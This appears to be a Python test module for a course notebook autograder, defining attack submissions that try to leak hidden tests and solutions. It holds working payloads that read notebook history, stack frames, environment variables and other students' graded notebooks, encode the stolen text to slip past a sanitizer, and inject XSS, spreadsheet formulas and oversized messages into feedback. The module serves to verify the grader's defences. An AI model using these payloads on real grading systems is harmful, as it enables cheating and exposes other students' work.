"""Leaks: hidden tests and solutions smuggled out through feedback or outputs (issue 9, third bullet).

Every payload is encoded (base64 of zlib, hex of zlib) because the old sanitizer only dropped
verbatim lines; the test decodes every blob before it searches.
"""

from . import attack
from .snippets import GUARD, PACK, PROCS

PS02, PS03 = "ps02_conv_arithmetic", "ps03_pooling"
NO_LEAK = ("feedback is written by the grader only (at most 500 characters of the student's own "
           "exception message), and test code, expected values and solutions never enter the "
           "kernel: no hidden-test or solution line reaches anything a student sees")

HISTORY = PACK + r'''
import sqlite3


def _history():
    ip = globals().get("get_ipython", lambda: None)()
    ns = ip.user_ns if ip is not None else globals()
    parts = [str(x) for x in ns.get("In", [])] + [str(x) for x in ns.get("_ih", [])]
    parts += [repr(v)[:2000] for v in dict(ns.get("Out", {})).values()]
    parts += [str(v) for k, v in ns.items() if isinstance(v, str) and len(v) > 40]
    try:
        parts += [src for _, _, src in ip.history_manager.get_tail(1000, raw=True, include_latest=True)]
    except Exception:
        pass
    try:   # every session in this IPython folder: earlier kernels, other students if it is shared
        con = sqlite3.connect(str(ip.history_manager.hist_file))
        parts += [src for (src,) in con.execute("SELECT source FROM history")]
    except Exception:
        pass
    return "\n".join(parts)


def conv_output_size(*a, **k):
    inputs = globals().get("In") or [""]
    raise ValueError("IN-1 " + _z64(inputs[-1]))


def same_padding(*a, **k):
    raise ValueError("HIST " + _z64(_juicy(_history())))


def pad2d(*a, **k):
    raise ValueError("HISTHEX " + _zhex(_juicy(_history())))


def conv2d(*a, **k):
    print("HISTORY", _z64(_history()))
    raise ValueError("HISTRAW " + _juicy(_history())[-480:])


def receptive_field(*a, **k):
    raise ValueError("HISTTAIL " + _z64(_history()[-3000:]))
'''

HISTORY_OUTPUT = PACK + r'''
# an answer cell that runs after earlier test cells: print what the kernel has seen so far
_seen = _history()
print("SEEN", _z64(_seen))
print("SEENHEX", _zhex(_juicy(_seen)))
try:
    from IPython.display import display
    display({"text/plain": "ok"}, raw=True, metadata={"seen": _seen, "packed": _z64(_seen)})
except ImportError as e:
    print("no IPython.display:", e)
'''

INSPECT = PACK + r'''
import gc, inspect, os, sys, types


def _frames():
    out = []
    for fi in inspect.stack(context=30):
        out.append(f"{fi.filename}:{fi.lineno} {fi.function}\n" + "".join(fi.code_context or []))
        out.append(repr({k: repr(v)[:300] for k, v in fi.frame.f_locals.items()})[:3000])
        try:
            out.append(inspect.getsource(fi.frame))
        except Exception:
            pass
    return "\n".join(out)


def _foreign_code():
    """Source and string constants of every function in this process that the student did not write."""
    out = []
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType):
            code = obj.__code__
            out += [c for c in code.co_consts if isinstance(c, str) and ("ck." in c or "cb." in c)]
            try:
                src = inspect.getsource(obj)
                if "ck." in src or "cb." in src or "expected" in src:
                    out.append(src)
            except Exception:
                pass
    return "\n".join(out)


def _globals():
    return repr({k: repr(v)[:300] for k, v in globals().items() if not k.startswith("__")})


def _env():
    return repr(dict(os.environ)) + repr(sys.argv) + repr(sys.path) + repr(sorted(sys.modules))


def conv_output_size(*a, **k):
    raise ValueError("GLOBALS " + _z64(_juicy(_globals())))


def same_padding(*a, **k):
    raise ValueError("STACK " + _z64(_juicy(_frames())))


def pad2d(*a, **k):
    raise ValueError("CODE " + _z64(_foreign_code()))


def conv2d(*a, **k):
    raise ValueError("ENV " + _z64(_env()))


def receptive_field(*a, **k):
    print("EVERYTHING", _z64(_frames() + _foreign_code() + _globals() + _env()))
    raise ValueError("STACKHEX " + _zhex(_juicy(_frames()))[:480])
'''

# Read the instructors' notebooks (solutions/, other students' executed notebooks in --out).
FILES = GUARD + PROCS + PACK + r'''
import glob, json, os

_paths = []
for root in ("/work/main", "/work/grader", "/work", "/repo", "/course", "/srv", "/home", "/root", "/opt"):
    _paths += glob.glob(root + "/solutions/*/*.ipynb") + glob.glob(root + "/*/solutions/*/*.ipynb")
    _paths += glob.glob(root + "/autograder/work/autograded/*/*/*.ipynb")
for up in range(1, 8):
    _paths += glob.glob("../" * up + "solutions/*/*.ipynb") + glob.glob("../" * up + "*/solutions/*/*.ipynb")
    _paths += glob.glob("../" * up + "autograded/*/*/*.ipynb")
for pid, cmd, env in _run_processes():
    _paths += glob.glob(f"/proc/{pid}/cwd/solutions/*/*.ipynb") + glob.glob(f"/proc/{pid}/cwd/*/solutions/*/*.ipynb")
for out in _grader_out_dirs():
    _paths += glob.glob(out + "/autograded/*/*/*.ipynb")     # executed notebooks hold the hidden tests
_paths += glob.glob("@OUT@/autograded/*/*/*.ipynb")


def _blocks(src):
    keep, inside = [], False
    for ln in src.splitlines():
        if "BEGIN HIDDEN TESTS" in ln or "BEGIN SOLUTION" in ln:
            inside = True
        elif "END HIDDEN TESTS" in ln or "END SOLUTION" in ln:
            inside = False
        elif inside:
            keep.append(ln.strip())
    return keep


loot, seen = [], set()
for p in sorted(set(_paths), key=lambda p: ("ps02" not in p, p)):
    try:
        nb = json.load(open(p))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        src = cell.get("source", "")
        src = "".join(src) if isinstance(src, list) else src
        for ln in _blocks(src):
            if len(ln) > 20 and ln not in seen:
                seen.add(ln)
                loot.append(ln)
LOOT = "\n".join(loot)
print("FOUND", len(set(_paths)), "notebooks,", len(loot), "secret lines")
print("LOOT", _z64(LOOT))
print("LOOTHEX", _zhex(LOOT[:20000]))
try:
    from IPython.display import display
    display({"text/plain": "nothing to see"}, raw=True, metadata={"loot": LOOT[:50000], "z": _z64(LOOT)})
except ImportError:
    pass


def _chunk(i):
    return _z64(LOOT[i * 600:(i + 1) * 600]) if LOOT else "nothing found"


def conv_output_size(*a, **k):
    raise ValueError("L0 " + _chunk(0))


def same_padding(*a, **k):
    raise ValueError("L1 " + _chunk(1))


def pad2d(*a, **k):
    raise ValueError("L2 " + _chunk(2))


def conv2d(*a, **k):
    raise ValueError("L3 " + LOOT[:480])          # verbatim too: a sanitizer must not be needed


def receptive_field(*a, **k):
    raise ValueError("L4 " + _chunk(3))
'''

# The student's own text in the feedback and the report: HTML/script, huge, control characters.
INJECTION = r'''
XSS = '<script>alert("atk-xss")</script><img src=x onerror=alert("atk-img")><a href="javascript:alert(1)">x</a>'


class LoudError(Exception):
    def __str__(self):
        return XSS + "A" * 5_000_000


def conv_output_size(*a, **k):
    raise ValueError(XSS + "\x00\x1b[2J\r" + "B" * 10_000_000)


def same_padding(*a, **k):
    raise LoudError()


def pad2d(*a, **k):
    raise ValueError("</pre></div></body></html>" + XSS)


def conv2d(*a, **k):
    raise KeyError("=HYPERLINK(\"http://example.invalid\",\"grades\")" + XSS)


def receptive_field(*a, **k):
    import sys
    sys.setrecursionlimit(100000)
    e = ValueError(XSS)
    for _ in range(2000):          # a long __cause__ chain
        try:
            raise ValueError(XSS) from e
        except ValueError as new:
            e = new
    raise e
'''

ATTACKS = [
    attack("atk_leak_history", PS02, NO_LEAK,
           "functions raise base64(zlib(In[-1])), the whole input history, Out, and the IPython history "
           "database of every session (hex and verbatim too); a later answer cell prints the history "
           "and puts it in display metadata", "every item 0, nothing secret in any output",
           answers=HISTORY, insert=[("ps02_sheet41_code", HISTORY_OUTPUT)]),
    attack("atk_leak_inspect", PS02, NO_LEAK,
           "functions raise encoded globals(), inspect.stack() with locals and source, the source and "
           "string constants of every foreign function found through gc, os.environ and sys.modules",
           "every item 0, nothing secret in any output", answers=INSPECT),
    attack("atk_leak_solution_files", PS02, NO_LEAK + "; the sandbox has no view of solutions/ or --out",
           "read solutions/ by absolute path (/work/main, /work/grader), by ../ up to 7 levels, through "
           "/proc/<pid>/cwd, and other students' executed notebooks in --out (found in the grader's "
           "cmdline); leak through exceptions, print (base64, hex) and display metadata",
           "every item 0, nothing secret in any output", answers=FILES),
    attack("atk_leak_solution_files_ps03", PS03, NO_LEAK,
           "the same file-reading leak, handed in for ps03 (printed and in display metadata)",
           "every item 0, nothing secret in any output", answers=FILES),
    attack("atk_feedback_injection", PS02,
           "feedback shows at most 500 characters of the student's message, escaped: a student "
           "cannot inject HTML/script into their page or the instructor's report",
           "exceptions carrying <script>, <img onerror>, closing tags, a spreadsheet formula, NUL and "
           "terminal escapes, 10 MB messages, an exception whose __str__ is huge, a 2000-deep cause chain",
           "every item 0, no raw markup from the student in feedback or report, pages stay small",
           answers=INJECTION),
]
